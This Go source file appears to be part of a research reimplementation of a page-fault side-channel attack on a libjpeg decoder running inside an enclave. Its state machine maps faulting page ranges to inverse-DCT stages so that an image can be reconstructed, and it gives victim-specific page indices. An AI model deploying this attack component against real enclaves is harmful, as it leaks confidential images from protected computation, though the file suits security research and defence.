// Package jpegfsm implements the JPEG page-fault reconstruction state
// machine (C7): a finite-state machine over fixed page ranges that,
// replaying only the sequence of enclave pages touched during inverse-DCT,
// reconstructs a greyscale or RGB approximation of the decompressed image.
package jpegfsm

// Kind discriminates the JpegState variants. DataCount carries a block
// data-access count as payload (see State.Count).
type Kind int

const (
	PreStart Kind = iota
	Start
	NextRow
	StartRow
	PreIdctSlow
	StartIdctSlow // present in the state space but unreachable: no
	// successor list ever transitions into it. The source treats this as
	// dead state; kept here only so the Kind enumeration matches it 1:1.
	IdctSlow
	DataCount
)

// State is a JpegState value: a Kind plus, for DataCount, the running block
// data-access count.
type State struct {
	Kind  Kind
	Count int
}

// PageRange is a half-open [Start, End) range of 4 KiB page indices.
type PageRange struct {
	Start, End int
}

func (r PageRange) contains(page int) bool { return page >= r.Start && page < r.End }

// Profile names one of the two page-range layouts the attack can be built
// against, selected by whether AEX-Notify is in use. Page indices are
// configurable per victim-binary build; this is the default profile
// observed against the libjpeg-in-enclave victim.
type Profile struct {
	AEXNotify bool
}

// Pages returns the page range that triggers entry into state s under this
// profile. PreStart, StartIdctSlow and any unrecognized kind have no
// triggering range and return the empty range [0,0).
func (p Profile) Pages(s State) PageRange {
	switch s.Kind {
	case Start:
		return PageRange{54, 55}
	case NextRow:
		return PageRange{44, 46}
	case StartRow:
		return PageRange{58, 59}
	case PreIdctSlow:
		return PageRange{59, 60}
	case IdctSlow:
		return PageRange{63, 65}
	case DataCount:
		if p.AEXNotify {
			return PageRange{150, 4335}
		}
		return PageRange{150, 4340}
	default:
		return PageRange{0, 0}
	}
}

// NextStates returns the deterministic successor list for s. DataCount
// always offers DataCount(x+1) first, matching the source's selection
// order (the first matching range wins).
func NextStates(s State) []State {
	switch s.Kind {
	case PreStart:
		return []State{{Kind: Start}}
	case Start:
		return []State{{Kind: StartRow}}
	case NextRow:
		return []State{{Kind: StartRow}}
	case StartRow:
		return []State{{Kind: IdctSlow}}
	case PreIdctSlow:
		return []State{{Kind: IdctSlow}, {Kind: NextRow}}
	case IdctSlow:
		return []State{{Kind: DataCount, Count: 1}}
	case DataCount:
		return []State{
			{Kind: DataCount, Count: s.Count + 1},
			{Kind: PreIdctSlow},
			{Kind: NextRow},
		}
	default:
		return nil
	}
}

// Next advances from s on a fault at page, under profile p: the first
// successor whose page range contains page is selected; if none matches,
// s is returned unchanged (state stickiness).
func Next(s State, page int, p Profile) State {
	for _, next := range NextStates(s) {
		if p.Pages(next).contains(page) {
			return next
		}
	}
	return s
}

// NextPages returns the union of page ranges of every immediate successor
// of s. The attack driver revokes access to exactly these pages after each
// transition, so that the next fault selects the next state.
func NextPages(s State, p Profile) []PageRange {
	next := NextStates(s)
	out := make([]PageRange, len(next))
	for i, n := range next {
		out[i] = p.Pages(n)
	}
	return out
}
